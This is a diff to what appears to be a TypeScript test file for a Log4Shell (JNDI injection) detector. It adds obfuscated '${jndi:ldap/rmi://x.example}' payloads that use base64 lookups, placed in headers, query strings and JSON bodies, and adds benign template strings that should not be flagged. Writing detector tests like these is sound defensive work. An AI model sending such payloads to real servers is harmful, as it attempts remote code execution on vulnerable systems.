@@ -96,9 +96,14 @@ const JNDI: Case[] = [
   ["header:Referer", "https://example.com/?q=${${lower:J}ndi:ldap://x.example/a}"],
   ["query", "q=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.example/a}"],
   ["body:form", "name=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D"],
+  // A base64: lookup, read as its decoding (`${jndi:ldap://x}`; `di`; `d` unpadded).
+  ["header:User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0 ${${base64:JHtqbmRpOmxkYXA6Ly94fQ==}}"],
+  ["query", "q=" + encodeURIComponent("${jn${base64:ZGk=}:ldap://x.example/a}")],
+  ["body:json", JSON.stringify({ q: "${jn${base64:ZA}i:rmi://x.example/a}" })],
 ];
 const NOT_JNDI: Case[] = [
   ["query", "gdpr=${GDPR}&consent=${GDPR_CONSENT}"],
+  ["body:json", JSON.stringify({ tpl: "${base64:aGVsbG8gd29ybGQ=} and ${base64:JHtqbmRp}" })],
   ["body:json", JSON.stringify({ tpl: "Hello ${name}, you have ${count} messages" })],
   ["body:json", JSON.stringify({ doc: "the jndi: prefix names a JNDI lookup" })],
 ];
